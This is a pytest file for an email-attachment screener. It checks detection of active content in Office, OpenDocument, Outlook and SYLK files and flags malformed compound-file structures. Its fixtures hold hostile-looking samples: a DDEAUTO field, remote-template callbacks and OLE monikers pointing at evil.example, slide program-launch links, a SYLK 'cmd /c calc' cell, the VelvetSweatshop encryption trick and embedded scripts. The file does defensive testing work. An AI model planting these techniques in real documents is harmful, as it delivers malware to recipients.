"""Old and new Office documents that seem to be something else to who looks at one mark alone: what acts in them is found."""

import struct

import pytest
from fakes import secret_office
from fakes.compound_files import FREE, compound
from fakes.evasions.containers import document, ole_native, zipped
from fakes.odd_mail import attached

from screener.anatomy.active import Active
from screener.anatomy.defects import Defect
from screener.anatomy.message import Anatomy
from screener.anatomy.office import compound as compound_files
from screener.anatomy.office.compound import Compound

SCRIPT = b"new ActiveXObject('x');\n"
FIELD = b'<w:document xmlns:w="x"><w:r><w:instrText>DDEAUTO c:\\x.exe</w:instrText></w:r></w:document>'
TYPES = (
    b'<Types><Override PartName="/doc/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
MANIFEST = b'<m:manifest><m:file-entry m:full-path="/" m:media-type="application/vnd.oasis.opendocument.text"/></m:manifest>'
LIBRARY = ("Basic/Standard/M.xml", b"<script:module>Shell(1)</script:module>")


def read(octets: bytes, name: str) -> tuple[Anatomy, set[Defect]]:
    anatomy = Anatomy(attached(octets, name))
    return anatomy, {one.defect for one in anatomy.all_defects()}


def acts(octets: bytes, name: str) -> set[Active]:
    return {kind for one in read(octets, name)[0].attachments for kind in one.active_content}


@pytest.mark.parametrize(
    "members",
    [
        (("doc/document.xml", FIELD), ("ppt/a.xml", b"<a/>")),
        (("docProps/document.xml", FIELD), ("visio/a.xml", b"<a/>")),
        (("word/x.bin", b" " * 100 + FIELD),),
        (("word/x.bin", b" " * 5_000 + FIELD),),
    ],
)
def test_fields_are_found_in_whatever_else_is_there(members: tuple[tuple[str, bytes], ...]) -> None:
    assert Active.DDE in acts(zipped(("[Content_Types].xml", TYPES), *members), "a.docx")


BUTTONS = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="{}"><button getLabel="{}"/></customUI>'


@pytest.mark.parametrize(
    ("callbacks", "active"),
    [
        (("Load", "https://evil.example/t.dotm!Label"), {Active.TEMPLATE}),
        (("\\\\evil.example\\t.dotm!Load", "Label"), {Active.TEMPLATE}),
        (("Module1.Load", "Label"), set()),
    ],
)
def test_buttons_that_call_macros_of_another_file(callbacks: tuple[str, str], active: set[Active]) -> None:
    assert acts(document(("customUI/customUI.xml", BUTTONS.format(*callbacks).encode("utf-16"))), "a.docx") == active


def test_what_acts_in_a_document_of_2003_that_seems_to_be_a_package() -> None:
    octets = b'<w:wordDocument xmlns:w="w" w:macrosPresent="yes"><p:part xmlns:p="xmlData"/>' + FIELD + b"</w:wordDocument>"
    anatomy, _ = read(octets, "a.doc")
    assert anatomy.attachments[0].macros
    assert Active.DDE in anatomy.attachments[0].active_content


def test_a_part_that_is_too_long_is_a_defect() -> None:
    assert Defect.CONTAINER_TOO_LARGE in read(document(("word/header1.xml", b"<w>" + b"x" * (17 << 20) + FIELD)), "a.docx")[1]


@pytest.mark.parametrize("action", ["ppaction://program", "PPAction&#58;//program", "ppaction://hlinksldjump"])
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_program_that_a_slide_starts(action: str, codec: str) -> None:
    slide = f"<p:sld><a:hlinkMouseOver action = '{action}'/></p:sld>"
    active = {Active.LAUNCH} if action.endswith("program") else set()
    assert acts(document(("ppt/slides/slide1.xml", slide.encode(codec))), "a.ppsx") == active


@pytest.mark.parametrize(
    "members",
    [
        (("META-INF/manifest.xml", MANIFEST), LIBRARY),
        (LIBRARY,),
        (
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            LIBRARY,
            ("[Content_Types].xml", TYPES),
            ("word/a.xml", b"<a/>"),
        ),
    ],
)
def test_macros_of_an_open_document(members: tuple[tuple[str, bytes], ...]) -> None:
    assert read(zipped(("content.xml", b"<a/>"), *members), "a.odt")[0].attachments[0].macros


ATTACHED = "__attach_version1.0_#00000000/"
MESSAGE = {"__properties_version1.0": bytes(32), "__substg1.0_0037001F": "hello".encode("utf-16-le")}
FILE = {
    f"{ATTACHED}__substg1.0_3707001F": "evil.js".encode("utf-16-le"),
    f"{ATTACHED}__substg1.0_37010102": SCRIPT,
}


@pytest.mark.parametrize(
    "streams",
    [
        {path.upper(): content for path, content in (MESSAGE | FILE).items()},
        MESSAGE | {f"{ATTACHED}__substg1.0_3701000D/\x01Ole10Native": ole_native("evil.js", SCRIPT)},
    ],
)
def test_what_is_attached_to_a_message_of_outlook(streams: dict[str, bytes]) -> None:
    assert any("evil.js" in one.names for one in read(compound(streams), "a.msg")[0].attachments)


def test_a_file_that_stands_twice_in_a_message_of_outlook() -> None:
    twice = FILE | {path.lower().replace("sub", "SUB"): b"other" for path in FILE if path.endswith("0102")}
    assert Defect.CONTAINER_AMBIGUOUS in read(compound(MESSAGE | twice), "a.msg")[1]


@pytest.mark.parametrize("number", [1251, 20866])
def test_a_subject_in_the_code_page_of_the_message(number: int) -> None:
    properties = bytes(32) + struct.pack("<LLQ", 0x3FDE0003, 6, 65001) + struct.pack("<LLQ", 0x3FFD0003, 6, number)
    codec = {1251: "cp1251", 20866: "koi8_r"}[number]
    octets = compound({"__properties_version1.0": properties, "__substg1.0_0037001E": "Вот соловей".encode(codec)})
    assert "Вот соловей" in {text.text for text in read(octets, "a.msg")[0].attachment_texts}


def test_a_file_that_is_attached_by_its_path() -> None:
    path = {f"{ATTACHED}__substg1.0_370D001F": "\\\\evil.example@80\\evil.js".encode("utf-16-le")}
    assert any("js" in one.extensions for one in read(compound(MESSAGE | path), "a.msg")[0].attachments)


@pytest.mark.parametrize("size", [1_100, 5_000])
def test_a_packaged_file_of_a_long_name(size: int) -> None:
    octets = compound({"\x01Ole10Native": ole_native("x" * size + "/evil.js", SCRIPT)})
    assert any("js" in one.extensions for one in read(octets, "a.doc")[0].attachments)


def test_macros_of_a_document_put_into_a_message_of_outlook() -> None:
    inside = f"{ATTACHED}__substg1.0_3701000D/Macros/VBA/_VBA_PROJECT"
    assert read(compound(MESSAGE | {inside: b"x"}), "a.msg")[0].attachments[0].macros


def test_a_description_of_encryption_that_no_storage_leads_to() -> None:
    """Excel opens it by the one in the tree, unasked."""
    sealed = Compound(secret_office.agile("VelvetSweatshop"))
    streams = {entry.name: sealed.read(entry, 1 << 20) for entry in sealed.entries if entry.name.startswith("Encrypt")}
    octets = compound(streams | {"EncryptionInfx": b"\4\0\4\0\x40\0\0\0<encryption><c:encryptedKey a='1'/></encryption>"})
    before = octets.index([*streams][-1].encode("utf-16-le") + b"\0\0")
    octets = octets[: before + 72] + struct.pack("<L", FREE) + octets[before + 76 :]
    octets = octets.replace("EncryptionInfx".encode("utf-16-le"), "EncryptionInfo".encode("utf-16-le"))
    assert not read(octets, "a.docx")[0].attachments[0].encrypted


@pytest.mark.parametrize("at", [56, 57])
def test_a_header_that_tells_short_streams_otherwise_is_a_defect(at: int) -> None:
    octets = bytearray(compound({"WordDocument": bytes(4096), "\x01Ole10Native": ole_native("evil.js", SCRIPT)}))
    octets[at] ^= 0x10
    assert Defect.CONTAINER_DAMAGED in read(bytes(octets), "a.doc")[1]


@pytest.mark.parametrize(
    "before",
    [
        struct.pack("<HH", 0x3C, 8_000) + bytes(8_000),
        (struct.pack("<HH", 0x3C, 8_000) + bytes(8_000)) * 600,
        struct.pack("<HHHH12xHH", 0x809, 16, 0x600, 0x10, 0x0A, 0),
    ],
)
def test_a_record_of_encryption_anywhere_before_the_end_of_the_book(before: bytes) -> None:
    """Such a password is tried by Excel itself."""
    anatomy, defects = read(zipped(("a.xls", secret_office.book("VelvetSweatshop", before=before))), "a.zip")
    assert anatomy.attachments[1].macros
    assert not defects


def test_another_entry_that_says_it_is_the_root_is_a_defect() -> None:
    octets = bytearray(compound({"WordDocument": b"x", "a": b"x"}))
    for name, kind in (("Root Entry", 1), ("a", 5)):
        octets[octets.index(name.encode("utf-16-le") + b"\0\0") + 66] = kind
    assert Defect.CONTAINER_DAMAGED in read(bytes(octets), "a.doc")[1]


def test_a_table_of_sectors_that_is_listed_twice_stands_in_both_places() -> None:
    """The third piece of the table tells of what begins at sector 256, whatever the second is."""
    free, end = struct.pack("<L", FREE), struct.pack("<L", 0xFFFFFFFE)
    content = b"alert(1);" * 500
    first = end + (free * 127)
    third = b"".join(struct.pack("<L", 257 + number) for number in range(8)) + end + free * 119
    root = compound({"x": bytes(4_500)})
    entries = [root[root.index(name.encode("utf-16-le") + b"\0\0") :][:128] for name in ("Root Entry", "x")]
    stream = entries[1][:116] + struct.pack("<LQ", 256, len(content))
    header = bytearray(root[:512])
    struct.pack_into("<L", header, 44, 3)
    struct.pack_into("<L", header, 48, 0)
    struct.pack_into("<4L", header, 76, 1, 1, 2, FREE)
    sectors = [entries[0] + stream + bytes(256), first, third] + [bytes(512)] * 253
    octets = bytes(header) + b"".join(sectors) + content.ljust(9 * 512, b"\0")
    found = Compound(octets)
    assert [found.read(one, 1 << 20) for one in found.entries] == [content]


def test_more_entries_than_are_read_are_a_defect(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(compound_files, "MAX_ENTRIES", 4)
    octets = compound({"WordDocument": b"x", "a": b"x", "b": b"x", "Macros/VBA/_VBA_PROJECT": b"x"})
    assert Defect.CONTAINER_DAMAGED in read(octets, "a.doc")[1]


URL, SOAP, SCRIPTLET = "e0c9ea79f9bace118c8200aa004ba90b", "c7b0abec197fd211978e0000f8757e2a", "d30b2906aa48d2118432006008c3fbfc"
FILE_MONIKER = bytes.fromhex("0303000000000000c000000000000046")


@pytest.mark.parametrize(
    "moniker",
    [*map(bytes.fromhex, (URL, SOAP, SCRIPTLET)), FILE_MONIKER + b"\\\\evil.example@80\\dav\\t.doc"],
)
@pytest.mark.parametrize("before", [0, 5_000])
def test_an_object_that_is_loaded_from_the_web(moniker: bytes, before: int) -> None:
    octets = compound({"WordDocument": b"x", "ObjectPool/_1/\x01Ole": bytes(20 + before) + moniker})
    assert acts(octets, "a.doc") == {Active.LINKED_OBJECT}


def test_a_cell_of_sylk_that_calls_a_program() -> None:
    assert acts(b"ID;P\r\nC;X1;Y1;K0;Ecmd|'/c calc'!A0\r\nE\r\n", "a.csv") == {Active.DDE}
    assert not acts(b'ID;P\r\nC;X1;Y1;K"a|b!";E"a|b!c"\r\nE\r\n', "a.csv")
